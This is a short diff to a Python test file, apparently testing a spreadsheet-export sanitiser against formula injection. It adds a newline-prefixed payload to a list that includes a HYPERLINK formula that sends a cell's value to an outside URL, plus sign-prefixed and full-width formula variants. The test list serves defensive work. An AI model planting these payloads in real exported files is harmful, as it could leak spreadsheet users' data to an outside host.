@@ -24,7 +24,7 @@ ROOT = Path(__file__).resolve().parents[1]
 SAMPLE = ROOT / "sample_data" / "canonical"
 WINDOW = ("2026-11-20T00:00:00", "2026-11-21T00:00:00")
 PAYLOADS = ['=HYPERLINK("http://x?"&C2,"y")', "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "\rcmd",
-            "＝1+1", "＋1", "－2+3", "＠SUM(A1)"]  # fmt: skip
+            "＝1+1", "＋1", "－2+3", "＠SUM(A1)", "\n=1+1"]  # fmt: skip
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
